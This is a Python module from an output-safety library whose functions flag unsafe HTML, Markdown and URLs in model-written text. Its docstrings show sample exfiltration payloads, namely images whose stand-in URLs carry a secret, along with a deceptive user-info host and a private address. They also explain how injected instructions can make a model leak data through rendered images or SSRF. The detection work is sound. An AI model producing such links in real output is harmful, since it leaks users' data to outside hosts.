"""What the text of a model does where it is rendered or run."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from typing import cast

from .._check import check
from .._errors import PolicyError
from .._types import Finding, Span
from .._values import FrozenDict
from .knowing import known_in
from .parameters import read_at_once, texts

__all__ = ["unsafe_html", "unsafe_markdown", "unsafe_url"]

SAID = {
    "attribute": "an attribute that is not allowed",
    "carrier": "a link that takes much along",
    "depth": "tags within tags, more than a browser would take",
    "html": "HTML that is not allowed",
    "image": "an image from where none is allowed",
    "link": "a link that leads where none may",
    "markup": "markup that can be read in two ways, or is no tag",
    "script": "a script",
    "private": "an address that is not on the public net",
    "scheme": "an address that runs, or opens what is not of the web",
    "tag": "a tag that is not allowed",
    "unlisted": "an address that is not listed",
    "unreadable": "it cannot be told what is where",
    "user": "an address with a user name before its host",
}


def _patterns(name: str, given: object) -> tuple[str, ...]:
    """Patterns of addresses, each of which can be read; none is fine."""
    try:
        from ..addresses import allowed  # noqa: PLC0415  # it needs an extra
    except ImportError as missing:
        raise PolicyError(f"{name}=: {missing}") from missing
    found = texts(name, given)
    return allowed.checked(found) if found else found


def _links(given: object) -> tuple[str, ...] | None:
    return None if given is None else _patterns("links", given)


def _images(given: object) -> tuple[str, ...]:
    return _patterns("images", given)


def _allowed(given: object) -> tuple[str, ...]:
    return _patterns("allow", given)


def _tags(given: object) -> tuple[str, ...] | None:
    try:
        from ..rendering import html  # noqa: PLC0415  # it needs an extra
    except ImportError as missing:
        raise PolicyError(f"unsafe_html(): {missing}") from missing
    if given is None:
        return None
    found = tuple(sorted({each.lower() for each in texts("tags", given)}))
    for each in found:
        if each in html.NEVER or not each.isalnum():
            raise PolicyError(f"tags= names {each!r}, which is never safe to show")
    return found


def _attributes(given: object) -> Mapping[str, tuple[str, ...]] | None:
    if given is None:
        return None
    if not isinstance(given, Mapping):
        raise PolicyError('attributes= takes names for each tag: {"td": ("align",)}')
    found = FrozenDict(
        {
            tag: tuple(sorted({n.lower() for n in texts("attributes", names)}))
            for tag, names in given.items()
        }
    )
    from ..rendering import html  # noqa: PLC0415  # it needs an extra

    for tag, names in found.items():
        for each in names:
            if not html.may_be_allowed(tag, each):
                raise PolicyError(f"attributes= names {each!r}, which is never safe to show")
    return found


def _all(given: Iterable[str] | None) -> tuple[str, ...] | None:
    return None if given is None else tuple(given)


def _named(given: Mapping[str, Iterable[str]] | None) -> FrozenDict[str, tuple[str, ...]] | None:
    return cast("FrozenDict[str, tuple[str, ...]] | None", given)  # it was read at once


@read_at_once(tags=_tags, attributes=_attributes, links=_links, images=_images)
@check(known=known_in("render.unsafe_html"))
def unsafe_html(
    text: str,
    *,
    tags: Iterable[str] | None = None,
    attributes: Mapping[str, Iterable[str]] | None = None,
    links: Iterable[str] | None = None,
    images: Iterable[str] = (),
) -> Iterator[Finding]:
    """HTML that runs, sends, or pretends to be part of the page.

    What a model writes may be what a stranger told it to write. `redact` leaves tags that
    show text, tables and lists, links to pages and mail, and no image but those of *images*.
    It needs nh3: ``pip install "guardrails-lib[output]"``.

    >>> for found in unsafe_html()('Hi, <img src="https://x.test/?q=secret"> Ann'):
    ...     print(found.kind, found.span, found.instead)
    image Span(start=4, end=40) <img>

    *tags* and *attributes* name what is allowed instead of what is as a rule. *links* and
    *images* are patterns as `unlisted_source` takes them; without *links* every page of the
    web may be linked. Where nothing is found the text stays as it is, letter for letter.

    It is for text that a page shows between two tags. Within an attribute, a script or a
    style nothing that a model wrote is safe. Tags nested deeper than browsers go are shown
    as they were written.
    """
    from ..rendering import html  # noqa: PLC0415  # it needs an extra

    if "<" not in text:
        return
    rules = html.rules(_all(tags), _named(attributes), _all(links), tuple(images))
    for found in html.mended(text, rules):
        for kind in found.kinds:
            yield Finding(SAID[kind], Span(found.start, found.end), kind=kind, instead=found.text)


def _readable(given: object) -> bool:
    try:
        from ..rendering import markdown_edits  # noqa: F401, PLC0415  # it needs an extra
    except ImportError as missing:
        raise PolicyError(f"unsafe_markdown(): {missing}") from missing
    if not isinstance(given, bool):
        raise PolicyError("html= is True or False")
    return given


@read_at_once(links=_links, images=_images, html=_readable)
@check(known=known_in("render.unsafe_markdown"))
def unsafe_markdown(
    text: str,
    *,
    links: Iterable[str] | None = None,
    images: Iterable[str] = (),
    html: bool = False,
) -> Iterator[Finding]:
    """Markdown that asks for something when it is shown, or links to what runs.

    An image is asked for as soon as it is shown, so its address can carry away what the
    model knows. It needs nh3 and markdown-it-py: ``pip install "guardrails-lib[output]"``.

    >>> for found in unsafe_markdown()("Done! ![ok](https://x.test/?q=secret)"):
    ...     print(found.kind, found.span, found.instead)
    image Span(start=6, end=37) ok

    `redact` leaves the words of an image or a link, and shows a tag as it is written. Code
    stays as it is. *links* and *images* are patterns as `unlisted_source` takes them; without
    *links* every page of the web may be linked, unless the address takes much along. Tags
    without attributes that only set how text looks are fine, and with ``html=True`` what
    `unsafe_html` allows.

    It reads CommonMark with tables, and much of what other readers might take for a link. It
    does not know the extensions of your renderer: attributes in braces, diagrams, mathematics.
    Where that does not follow CommonMark, put `unsafe_html` over the page that it made.
    """
    from ..rendering import markdown_edits  # noqa: PLC0415  # it needs an extra
    from ..rendering.html import rules  # noqa: PLC0415  # as above

    listed, shown = _all(links), tuple(images)
    of_html = rules(None, None, listed, shown) if html else None
    wanted = markdown_edits.Rules(listed, shown, of_html)
    for each in markdown_edits.edits(text, wanted):
        span = Span(each.start, each.end)
        yield Finding(SAID[each.kind], span, kind=each.kind, instead=each.text)


@read_at_once(allow=_allowed)
@check(known=known_in("render.unsafe_url"))
def unsafe_url(text: str, *, allow: Iterable[str] = ()) -> Iterator[Finding]:
    """An address that runs code, or leads to a place that is not on the public net.

    A tool that fetches what a model names can be sent to the machine it runs on. With
    *allow*, patterns as `unlisted_source` takes them, whatever fits none is found. It reads
    addresses as browsers do, and needs can-ada: ``pip install "guardrails-lib[output]"``.

    >>> check = unsafe_url(allow=("https://docs.example.com/**",))
    >>> [f.kind for f in check("https://docs.example.com@evil.test/")]
    ['unlisted']
    >>> [f.kind for f in unsafe_url()("See http://0x7f.1/admin, or https://example.com.")]
    ['private']

    An address without scheme and host stays where it is, and is fine. It fetches nothing, so
    it sees neither a redirect nor a public name that stands for a private number.
    """
    from ..rendering import addresses  # noqa: PLC0415  # it needs an extra

    for each in addresses.wrong(text, tuple(allow)):
        yield Finding(SAID[each.kind], Span(each.start, each.end), kind=each.kind)
